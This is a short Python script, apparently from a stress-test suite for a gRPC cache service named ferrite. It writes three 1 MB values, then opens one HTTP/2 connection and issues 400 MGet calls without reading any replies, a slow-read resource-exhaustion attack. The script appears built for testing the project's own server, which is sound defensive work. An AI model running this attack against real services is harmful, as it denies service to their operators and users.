"""One connection that asks 400 times for 3 MB and reads nothing."""

import flood
import grpc
from ferrite.v1 import cache_pb2, cache_pb2_grpc
from http2_connection import Http2Connection

KEYS = [b"large/%d" % number for number in range(3)]
CALLS = 400


def attack(options, _, deadline):
    with grpc.insecure_channel(options.address) as channel:
        client = cache_pb2_grpc.CacheServiceStub(channel)
        for key in KEYS:
            client.Set(cache_pb2.SetRequest(key=key, value=b"v" * 1_000_000))
    with Http2Connection(options.address) as hog:
        request = cache_pb2.MGetRequest(keys=KEYS).SerializeToString()
        for _ in range(CALLS):
            hog.start_call("/ferrite.v1.CacheService/MGet", request)
        flood.wait_until(deadline)


if __name__ == "__main__":
    flood.run(attack)
